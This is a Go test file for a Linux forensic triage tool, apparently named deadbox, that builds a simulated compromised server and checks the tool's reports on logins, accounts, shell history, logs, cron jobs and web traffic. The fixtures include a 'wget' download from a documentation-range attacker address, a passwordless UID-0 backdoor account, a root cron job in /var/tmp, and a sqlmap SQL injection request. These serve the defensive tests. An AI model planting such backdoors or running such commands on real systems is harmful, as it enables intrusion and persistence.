package main

import (
	"encoding/binary"
	"encoding/json"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"deadbox/timeline"
	"deadbox/timeline/artifact"
)

// utmpRecord is a record of wtmp in the layout of x86_64: utmp(5).
func utmpRecord(kind int16, pid int32, line, user, address string, sec int64) string {
	b := make([]byte, 384)
	le := binary.LittleEndian
	le.PutUint16(b, uint16(kind))
	le.PutUint32(b[4:], uint32(pid))
	copy(b[8:40], line)
	copy(b[44:76], user)
	copy(b[76:332], address)
	le.PutUint32(b[340:], uint32(sec))
	if a, err := netip.ParseAddr(address); err == nil && a.Is4() {
		four := a.As4()
		copy(b[348:], four[:])
	}
	return string(b)
}

// makeTree writes a small server as a directory.
func makeTree(t *testing.T) string {
	t.Helper()
	const start = 1700000000 // 2023-11-14 22:13:20 UTC
	const key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8g anna@desk"
	dir := t.TempDir()
	for name, content := range map[string]string{
		"etc/hostname":                        "srv01\n",
		"etc/timezone":                        "UTC\n",
		"etc/os-release":                      "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\n",
		"etc/passwd":                          "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nanna:x:1000:1000::/home/anna:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n",
		"etc/shadow":                          "root:!:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\nanna:$6$salt$hash:19000:0:99999:7:::\ntoor::19600:0:99999:7:::\n",
		"etc/group":                           "root:x:0:\nsudo:x:27:anna\nanna:x:1000:\n",
		"etc/sudoers":                         "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n",
		"home/anna/.ssh/authorized_keys":      key + "\n",
		"home/anna/.bash_history":             "#1700000100\nls -la\n#1700000160\nwget http://203.0.113.5/x\n",
		"var/log/auth.log":                    "2023-11-14T22:13:18+00:00 srv01 sshd[900]: Accepted publickey for anna from 192.0.2.7 port 50000 ssh2: ED25519 SHA256:eM2OH61T+Wma/vkCLjYtyL+r3EXr8iVhXbajlcSAGbs\n2023-11-14T22:20:00+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n2023-11-14T22:20:01+00:00 srv01 sshd[901]: Failed password for root from 203.0.113.9 port 40000 ssh2\n2023-11-14T22:21:00+00:00 srv01 useradd[905]: new user: name=toor, UID=0, GID=0, home=/, shell=/bin/sh, from=none\n2023-11-14T22:22:00+00:00 srv01 sshd[906]: Accepted password for toor from 198.51.100.4 port 50001 ssh2\n",
		"home/anna/.viminfo":                  "# Jumplist (newest first):\n-'  1  0  ~/note.txt\n|4,39,1,0,1700000400,\"~/note.txt\"\n",
		"var/log/syslog":                      "2023-11-14T22:15:00+00:00 srv01 app[5]: one\n2023-11-14T22:16:00+00:00 srv01 mailer[6]: twice\n",
		"var/log/mail.log":                    "2023-11-14T22:16:00+00:00 srv01 mailer[6]: twice\n",
		"var/log/wtmp":                        utmpRecord(7, 900, "pts/0", "anna", "192.0.2.7", start) + utmpRecord(8, 900, "pts/0", "", "", start+600),
		"var/lib/dpkg/status":                 "Package: tool\nStatus: install ok installed\nVersion: 1.0-1\nArchitecture: amd64\n\n",
		"var/lib/dpkg/info/tool.list":         "/usr/bin/tool\n/etc/systemd/system\n/usr/lib/systemd/system/tool.service\n",
		"var/log/dpkg.log":                    "2023-11-14 21:00:00 install tool:amd64 <none> 1.0-1\n",
		"usr/bin/tool":                        "#!/bin/sh\necho tool\n",
		"usr/lib/systemd/system/tool.service": "[Service]\nExecStart=/usr/bin/tool\n[Install]\nWantedBy=multi-user.target\n",
		"etc/cron.d/update":                   "*/5 * * * * root /var/tmp/update\n",
		"var/tmp/update":                      "#!/bin/sh\necho inert\n",
		"etc/nginx/nginx.conf":                "events {}\nhttp { include /etc/nginx/sites-enabled/*; }\n",
		"etc/nginx/sites-enabled/shop":        "server { listen 80; server_name shop.example.org; root /srv/shop; access_log /var/log/nginx/shop.log; }\n",
		"srv/shop/index.php":                  "<?php echo 1;\n",
		"var/log/nginx/shop.log":              strings.Repeat(`192.0.2.7 - - [14/Nov/2023:22:14:00 +0000] "GET / HTTP/1.1" 200 10 "-" "Mozilla/5.0"`+"\n", 3) + `203.0.113.9 - - [14/Nov/2023:22:14:30 +0000] "GET /?id=1%20UNION%20SELECT%20user,password%20FROM%20users-- HTTP/1.1" 200 10 "-" "sqlmap/1.7"` + "\n",
	} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if err := os.Chtimes(file, time.Unix(start, 0), time.Unix(start, 0)); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// lines squeezes runs of blanks, so that a change of widths breaks no test.
func squeezed(s string) string {
	var out []string
	for line := range strings.Lines(s) {
		out = append(out, strings.Join(strings.Fields(line), " "))
	}
	return strings.Join(out, "\n")
}

func TestRecordCommands(t *testing.T) {
	dir := makeTree(t)
	for _, tt := range []struct {
		name string
		args []string
		want []string // lines, blanks squeezed
		not  []string
	}{
		{"logins", []string{"logins", dir}, []string{"anna pts/0 192.0.2.7 2023-11-14 22:13:20+00:00 2023-11-14 22:23:20+00:00 10m0s publickey"}, []string{"203.0.113.9"}},
		{"failed", []string{"logins", dir, "--failed"}, []string{"203.0.113.9 2 0 0 2023-11-14 22:20:00+00:00 2023-11-14 22:20:01+00:00 root"}, nil},
		{"each", []string{"logins", dir, "--failed", "--each"}, []string{"Failed password for root"}, []string{"Accepted"}},
		{"accounts", []string{"accounts", dir}, []string{
			"anna 1000 /bin/bash set, sha512 2022-01-08 anna,sudo anna@desk ALL as ALL without a password 2023-11-14 22:13:20+00:00 192.0.2.7",
			"toor 0 /bin/sh none 2023-08-31 root 2023-11-14 22:22:00+00:00 198.51.100.4 uid 0, no password needed", "2023-11-14 22:21:00+00:00 useradd[905]: new user: name=toor, UID=0, GID=0, home=/, shell=/bin/sh, from=none /var/log/auth.log:4", "1 more account that cannot log in: --all lists them."}, []string{"$6$", "daemon"}},
		{"all accounts", []string{"accounts", dir, "--all"}, []string{"daemon 1 /usr/sbin/nologin disabled"}, []string{"hash"}},
		{"history", []string{"history", dir}, []string{"1 2023-11-14 22:15:00+00:00 ls -la", "wget http://203.0.113.5/x", "2023-11-14 22:20:00+00:00 vim had open /home/anna/note.txt"}, nil},
		{"history grep", []string{"history", dir, "--grep", "wget"}, []string{"wget"}, []string{"ls -la"}},
		{"history of", []string{"history", dir, "--account", "root"}, nil, []string{"wget"}},
		{"logs", []string{"logs", dir, "--from", "2023-11-14 22:14", "--to", "2023-11-14 22:16"}, []string{"app[5]: one", "mailer[6]: twice", "UNION"}, []string{"Accepted", "Failed"}},
		{"logs of a kind", []string{"logs", dir, "--kind", "auth", "--address", "203.0.113.9"}, []string{"Failed password"}, []string{"Accepted", "UNION"}},
		{"packages", []string{"packages", dir}, []string{"tool 1.0-1 amd64 dpkg installed 2023-11-14", "dpkg: 1"}, nil},
		{"events", []string{"packages", dir, "--events"}, []string{"2023-11-14 21:00:00+00:00? dpkg: install tool:amd64 <none> 1.0-1"}, nil},
		{"autostart", []string{"autostart", dir}, []string{"2023-11-14 cron */5 * * * * root /var/tmp/update /etc/cron.d/update:1 none"}, []string{"/usr/bin/tool"}},
		{"all autostart", []string{"autostart", dir, "--all"}, []string{"/usr/bin/tool"}, nil},
		{"web", []string{"web", dir}, []string{"shop.example.org 80 /srv/shop", "4 requests in 1 log", "192.0.2.7 3 3 0 0 0 0 30 B", "SQL injection"}, nil},
		{"artifacts", []string{"artifacts", dir, "--kind", "utmp,cron"}, []string{"/var/log/wtmp", "/etc/cron.d/update:1"}, []string{"auth.log"}},
		{"list", []string{"artifacts", "--list", "--kind", "utmp"}, []string{"utmp", "/var/log/wtmp"}, []string{"dpkg.log"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			stdout, stderr := deadbox(t, exitDone, tt.args...)
			got := squeezed(stdout)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("%q is not in\n%s%s", w, got, stderr)
				}
			}
			for _, w := range tt.not {
				if strings.Contains(got, w) {
					t.Errorf("%q is in\n%s", w, got)
				}
			}
		})
	}
}

// TestLogsOnce: a message that syslogd wrote to two files is shown once, and
// all lines come in the order of time.
func TestLogsOnce(t *testing.T) {
	dir := makeTree(t)
	stdout, _ := deadbox(t, exitDone, "logs", dir, "--format", "jsonl")
	last, twice := "", 0
	for line := range strings.Lines(stdout) {
		var r struct {
			Summary string
			Stamps  []struct{ When string }
		}
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		if strings.Contains(r.Summary, "twice") {
			twice++
		}
		if len(r.Stamps) == 0 || r.Stamps[0].When < last {
			t.Errorf("%s after %s", line, last)
		} else {
			last = r.Stamps[0].When
		}
	}
	if twice != 1 {
		t.Errorf("a message in two logs is shown %d times", twice)
	}
	stdout, _ = deadbox(t, exitDone, "logs", dir, "--copies")
	if n := strings.Count(stdout, "twice"); n != 2 {
		t.Errorf("--copies shows it %d times", n)
	}
}

// TestArtifactFormats holds the forms of a record against each other, and says
// what every line of JSON has.
func TestArtifactFormats(t *testing.T) {
	dir := makeTree(t)
	jsonl, _ := deadbox(t, exitDone, "artifacts", dir, "--format", "jsonl")
	csv, _ := deadbox(t, exitDone, "artifacts", dir, "--format", "csv")
	text, _ := deadbox(t, exitDone, "artifacts", dir)
	n := strings.Count(jsonl, "\n")
	if n < 20 || strings.Count(csv, "\n") != n+1 || strings.Count(text, "\n") != n {
		t.Errorf("%d lines of JSON, %d of CSV, %d of text", n, strings.Count(csv, "\n"), strings.Count(text, "\n"))
	}
	for line := range strings.Lines(jsonl) {
		var r map[string]json.RawMessage
		if err := json.Unmarshal([]byte(line), &r); err != nil {
			t.Fatal(err)
		}
		for _, member := range []string{"kind", "record", "stamps", "summary", "fields", "evidence"} {
			if r[member] == nil {
				t.Errorf("no %s in %s", member, line)
			}
		}
	}
	if strings.Contains(jsonl+csv+text, "salt$hash") {
		t.Error("the hash of a password is shown")
	}
	again, _ := deadbox(t, exitDone, "artifacts", dir, "--format", "jsonl", "--jobs", "1")
	if again != jsonl {
		t.Error("one worker gives other bytes")
	}
}

func TestRecordUsage(t *testing.T) {
	dir := makeTree(t)
	for _, args := range [][]string{
		{"artifacts"}, {"artifacts", dir, "--kind", "nonesuch"}, {"logs", dir, "--grep", "("}, {"logs", dir, "--kind", "file"}, {"logs", dir, "--severity", "loud"},
		{"logins", dir, "--each"}, {"logs", dir, "--from", "yesterday"}, {"web", dir, "--top", "-1"}, {"artifacts", "--list", "--format", "csv"},
	} {
		deadbox(t, exitUsage, args...)
	}
}

// TestExtractorNames: the commands name extractors, which must be there.
func TestExtractorNames(t *testing.T) {
	for _, list := range [][]string{historyKinds, loginKinds, accountKinds, autostartKinds, packageKinds, webKinds, noLogs} {
		if _, err := extractorsOf(list); err != nil {
			t.Error(err)
		}
	}
	if len(artifact.All) < 40 {
		t.Errorf("%d extractors", len(artifact.All))
	}
}

// TestSiteTable shows where a part of the configuration that is no site's own leads to.
func TestSiteTable(t *testing.T) {
	list := []timeline.Record{
		{Fields: map[string]string{"name": "a.example.org", "path": "/srv/a", "aliases": "/x/=/y", "enabled": "yes"}},
		{Fields: map[string]string{"aliases": "/icons/=/usr/share/icons", "enabled": "yes"}},
	}
	var got []string
	for _, row := range siteTable(list).rows {
		got = append(got, row[2])
	}
	if want := []string{"/srv/a", "aliases /icons/=/usr/share/icons"}; !slices.Equal(got, want) {
		t.Errorf("%q, want %q", got, want)
	}
}
